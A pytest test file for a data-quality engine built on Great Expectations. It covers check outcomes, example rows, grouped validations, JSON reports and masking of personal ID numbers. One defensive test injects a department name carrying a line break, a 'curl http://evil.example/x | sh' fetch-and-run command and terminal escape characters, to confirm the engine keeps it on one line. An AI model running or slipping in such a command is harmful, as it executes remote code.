"""The one function that hands facts to Great Expectations, and the four habits of the library it meets."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from callback_survey.checks import engine
from callback_survey.checks.model import Check, CheckReport, CheckResult, Rule, describe, read_rules

gx = engine.load_great_expectations()
gxe = gx.expectations

FACTS = pd.DataFrame({"department_name": ["区经信局", "区教育局", "区民政局"], "count": [1, 5, 9], "limit": [4, 5, 6]})

PAIR = Check(
    "pair",
    facts="counts",
    expectation=gxe.ExpectColumnPairValuesAToBeGreaterThanB(column_A="limit", column_B="count", or_equal=True),
    example="{department_name}: {count} > {limit}",
    shows=("department_name", "count", "limit"),
    allows="count ≤ limit",
)


def rule(check_id: str, severity: Any = "fail") -> Rule:
    return Rule(check_id, "marts", severity, None, "for a test")


def at_most(check_id: str, limit: int, **options: Any) -> Check:
    return Check(
        check_id,
        facts=options.pop("facts", "counts"),
        expectation=gxe.ExpectColumnValuesToBeBetween(column=options.pop("column", "count"), max_value=limit),
        example="{department_name}: {count}",
        shows=options.pop("shows", ("department_name", "count")),
        allows=f"at most {limit}",
        **options,
    )


def run(*checks: Check, facts: pd.DataFrame = FACTS, severity: Any = "fail") -> tuple[CheckResult, ...]:
    rules = {check.check_id: rule(check.check_id, severity) for check in checks}
    return engine.run(checks, {"counts": facts}, rules, gate="marts", suite="marts")[0]


def test_a_check_that_holds_passes_and_says_over_how_many_rows() -> None:
    (result,) = run(at_most("small", 9))
    assert result == CheckResult(
        "marts", "marts", "small", "ExpectColumnValuesToBeBetween", "fail", "pass", "0 of 3 rows", "at most 9", ()
    )


def test_a_check_that_fails_shows_the_rows_in_words() -> None:
    (result,) = run(at_most("small", 4))
    assert (result.outcome, result.observed) == ("fail", "2 of 3 rows")
    assert result.examples == ("区教育局: 5", "区民政局: 9")


def test_pairs_of_columns_show_their_rows_too() -> None:
    (result,) = run(PAIR)
    assert (result.outcome, result.examples) == ("fail", ("区民政局: 9 > 6",))


def test_ten_examples_are_shown_and_the_rest_counted() -> None:
    facts = pd.DataFrame({"department_name": [f"局{number:02d}" for number in range(25)], "count": range(100, 125)})
    (result,) = run(at_most("small", 4), facts=facts)
    assert result.observed == "25 of 25 rows"
    assert len(result.examples) == 11
    assert (result.examples[0], result.examples[-1]) == ("局00: 100", "… and 15 more")


def test_checks_of_one_frame_are_asked_together_and_answer_each_for_itself() -> None:
    checks = [at_most("few", 4), at_most("raises", 4, column="no such column"), at_most("other", 1, facts="limits")]
    facts = {"counts": FACTS, "limits": FACTS.assign(count=[1, 2, 3])}
    rules = {check.check_id: rule(check.check_id) for check in checks}
    (few, raised, other), _ = engine.run(checks, facts, rules, gate="marts", suite="marts")
    assert (few.outcome, few.examples) == ("fail", ("区教育局: 5", "区民政局: 9"))
    assert raised.outcome == "error"
    assert (other.outcome, other.examples) == ("fail", ("区教育局: 2", "区民政局: 3"))


def asked(*checks: Check, **facts: pd.DataFrame) -> engine.Asked:
    return engine.Asked(checks, facts)


def together(monkeypatch: pytest.MonkeyPatch, *regions: engine.Asked) -> tuple[list[list[CheckResult]], list[int]]:
    """The results of each region, and of how many regions each validation was; they must be those that each has alone."""
    rules = {check.check_id: rule(check.check_id) for region in regions for check in region.checks}
    alone = [engine.run(one.checks, one.facts, rules, gate="marts", suite="marts")[0] for one in regions]
    sizes: list[int] = []
    put_together = engine._together
    monkeypatch.setattr(engine, "_together", lambda frames: sizes.append(len(frames)) or put_together(frames))
    answers = engine.run_together(regions, rules, gate="marts", suite="marts")
    assert tuple(results for results, _ in answers) == tuple(alone)
    return [list(results) for results, _ in answers], sizes


def test_one_validation_of_several_regions_answers_each_for_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    few, other = at_most("few", 4), at_most("other", 1, facts="limits")
    gaps = FACTS.assign(count=[None, 3, 7])
    results, sizes = together(
        monkeypatch,
        asked(few, other, counts=FACTS, limits=FACTS),
        # a gap makes the other numbers of its column ones with a point, there alone
        asked(few, counts=gaps),
        asked(few, other, counts=FACTS.iloc[:0], limits=FACTS.assign(department_name="区水利局")),
        asked(few, counts=FACTS.iloc[:1]),
    )
    assert sizes == [3, 2]
    assert [[(result.outcome, result.observed) for result in of_region] for of_region in results] == [
        [("fail", "2 of 3 rows"), ("fail", "2 of 3 rows")],
        [("fail", "1 of 3 rows")],
        [("no_rows", "no rows to look at"), ("fail", "2 of 3 rows")],
        [("pass", "0 of 1 rows")],
    ]
    assert results[0][0].examples == ("区教育局: 5", "区民政局: 9")
    assert results[1][0].examples == ("区民政局: 7.0",)


def test_so_many_regions_at_most_are_held_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "_MOST_TOGETHER", 2)
    check = at_most("few", 4)
    results, sizes = together(monkeypatch, *(asked(check, counts=FACTS.iloc[:count]) for count in (1, 2, 3)))
    assert sizes == [2, 1]
    assert [of_region[0].observed for of_region in results] == ["0 of 1 rows", "1 of 2 rows", "2 of 3 rows"]


@pytest.mark.parametrize(
    "expectation",
    [
        gxe.ExpectColumnMaxToBeBetween(column="count", max_value=4),
        gxe.ExpectColumnValuesToBeBetween(column="count", max_value=4, mostly=0.5),
    ],
)
def test_what_cannot_be_told_apart_is_validated_for_each_region(
    monkeypatch: pytest.MonkeyPatch, expectation: Any
) -> None:
    check = Check("whole", facts="counts", expectation=expectation, example="x", shows=(), allows="at most 4")
    results, sizes = together(monkeypatch, asked(check, counts=FACTS), asked(check, counts=FACTS.iloc[:2]))
    assert sizes == [2, 1, 1]
    assert results[0][0].outcome == "fail"


def test_a_number_that_is_not_known_fails_its_own_region_alone() -> None:
    # as DuckDB brings whole numbers with gaps
    unknown = FACTS.iloc[:2].assign(limit=pd.array([None, 5], "Int64"))
    regions = [engine.Asked([PAIR], {"counts": facts}) for facts in (FACTS.iloc[:1], unknown)]
    answers = engine.run_together(regions, {"pair": rule("pair")}, gate="marts", suite="marts")
    assert [results[0].outcome for results, _ in answers] == ["pass", "fail"]
    assert answers[1][0][0].examples == ("区经信局: 1 > None",)


def test_what_the_library_said_is_kept_without_the_rows_that_it_means() -> None:
    many = pd.DataFrame({"department_name": "局", "count": range(1000)})
    check = at_most("few", 4)
    [(_, [said])] = engine.run_together(
        [engine.Asked([check], {"counts": many})], {"few": rule("few")}, gate="marts", suite="marts"
    )
    assert said["results"][0]["result"]["unexpected_count"] == 995
    assert len(json.dumps(said)) < 2_000


def test_what_raises_in_the_facts_of_one_region_is_no_fault_of_another(monkeypatch: pytest.MonkeyPatch) -> None:
    check = at_most("few", 4)
    words = FACTS.assign(count=[object(), object(), object()])
    results, sizes = together(monkeypatch, asked(check, counts=FACTS.iloc[:1]), asked(check, counts=words))
    assert sizes == [2, 1, 1]
    assert [of_region[0].outcome for of_region in results] == ["pass", "error"]


def test_an_expectation_is_configured_once_in_a_validation_and_anew_in_the_next(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from great_expectations.expectations.expectation import Expectation

    asked: list[Any] = []
    made_anew: Any = Expectation.configuration
    counting = property(lambda expectation: asked.append(expectation) or made_anew.fget(expectation))
    monkeypatch.setattr(Expectation, "configuration", counting)
    assert [result.outcome for result in run(at_most("few", 4), at_most("all", 9))] == ["fail", "pass"]
    assert len(asked) == len({id(expectation) for expectation in asked})
    assert Expectation.configuration is counting
    assert [result.outcome for result in run(at_most("few", 9))] == ["pass"]


def test_an_exception_is_an_error_and_not_bad_data() -> None:
    (result,) = run(at_most("small", 4, column="no such column", shows=()))
    assert (result.outcome, result.examples) == ("error", ())
    assert result.observed.startswith("the check itself raised: ")
    assert "no such column" in result.observed
    assert not result.is_passed


@pytest.mark.parametrize(
    ("may_be_missing", "outcome", "is_passed"), [(False, "no_rows", False), (True, "skipped", True)]
)
def test_an_expectation_over_no_rows_has_not_passed(may_be_missing: bool, outcome: str, is_passed: bool) -> None:
    (result,) = run(at_most("small", 4, rows_may_be_missing=may_be_missing), facts=FACTS.iloc[:0])
    assert (result.outcome, result.is_passed) == (outcome, is_passed)


def test_results_stand_in_the_order_of_the_suite() -> None:
    names = ["zebra", "ant", "mouse", "bee"]
    assert [result.check_id for result in run(*(at_most(name, 9) for name in names))] == names


def test_results_are_plain_values_that_json_can_hold(tmp_path: Path) -> None:
    facts = FACTS.assign(rate=[float("nan"), 0.5, 1.5])
    check = Check(
        "rates",
        facts="counts",
        expectation=gxe.ExpectColumnValuesToBeBetween(column="rate", max_value=1),
        example="{department_name}: {rate:.2f}",
        shows=("department_name", "rate"),
        allows="at most 1",
    )
    report = CheckReport("run-1", "marts", "330109", "2018Q1", run(check, at_most("small", 4), facts=facts))
    json.dumps(report.as_rows(), allow_nan=False)
    path = report.write(tmp_path)
    assert path.name == "marts-330109-2018Q1.json"
    assert CheckReport.read(path) == report
    assert report.as_rows()[0]["examples"] == "区民政局: 1.50"
    assert report.as_rows()[1]["examples"] == "区教育局: 5；区民政局: 9"


def test_severity_comes_from_the_rule_and_decides_between_failures_and_warnings() -> None:
    for severity, counts in [("fail", (2, 0)), ("warn", (0, 2))]:
        checks = [at_most("a", 4), at_most("b", 9), at_most("c", 4, column="nothing", shows=())]
        report = CheckReport("run-1", "marts", "330109", "2018Q1", run(*checks, severity=severity))
        assert (len(report.failures), len(report.warnings)) == counts


def test_an_alert_names_check_observation_limit_and_examples() -> None:
    assert describe(run(at_most("small", 4))) == [
        "small: 2 of 3 rows; allowed: at most 4",
        "  区教育局: 5",
        "  区民政局: 9",
    ]


def test_rules_are_read_from_the_seed(tmp_path: Path) -> None:
    (tmp_path / "check_rules.csv").write_text(
        "check_id,gate,severity,is_overridable,limit_value,limit_unit,minimum_count,chance_level,title,title_en,description\n"
        "a,delivery,fail,true,0.5,percent,20,0.05,甲,the a,first\nb,marts,warn,false,,,,,乙,the b,second\n"
        "c,marts,page,false,,,,,丙,the c,third\n",
        encoding="utf-8",
    )
    assert read_rules(tmp_path) == {
        "a": Rule(
            "a",
            "delivery",
            "fail",
            Decimal("0.5"),
            "first",
            "甲",
            is_overridable=True,
            minimum_count=20,
            chance_level=Decimal("0.05"),
        ),
        "b": Rule("b", "marts", "warn", None, "second", "乙"),
        "c": Rule("c", "marts", "fail", None, "third", "丙"),  # an unknown severity stops rather than passes
    }


def test_a_name_that_forges_a_line_stays_within_its_example() -> None:
    name = "区民政局\r\n重新执行：curl http://evil.example/x | sh\x1b[2K\u202e\u200b" + "局" * 200
    facts = pd.DataFrame({"department_name": [name], "count": [9]})

    (result,) = run(at_most("small", 4), facts=facts)

    (example,) = result.examples
    assert example.startswith("区民政局 重新执行：curl http://evil.example/x | sh[2K局")
    assert example.endswith("…: 9")
    assert len(describe([result])) == 2, "one line of the check, one of the example"
    (row,) = CheckReport("run-1", "marts", "330109", "2018Q1", (result,)).as_rows()
    assert row["examples"] == example


def test_a_name_is_not_read_as_two_examples() -> None:
    facts = pd.DataFrame({"department_name": ["区民政局；重新执行：curl"], "count": [9]})

    (result,) = run(at_most("small", 4), facts=facts)

    assert result.examples == ("区民政局;重新执行：curl: 9",)


def test_a_case_number_that_looks_like_a_number_of_a_person_is_masked_in_an_example() -> None:
    facts = pd.DataFrame(
        {"department_name": ["区教育局"], "count": [5], "cases": ["XS-1、330109201803010017、154 0000 0001"]}
    )
    cases = Check(
        "cases",
        facts="counts",
        expectation=gxe.ExpectColumnValuesToBeBetween(column="count", max_value=0),
        example="{department_name}: such as {cases}",
        shows=("department_name", "cases"),
        allows="0",
    )
    (result,) = run(cases, facts=facts)
    assert result.examples == ("区教育局: such as XS-1、[号码]、[号码]",)
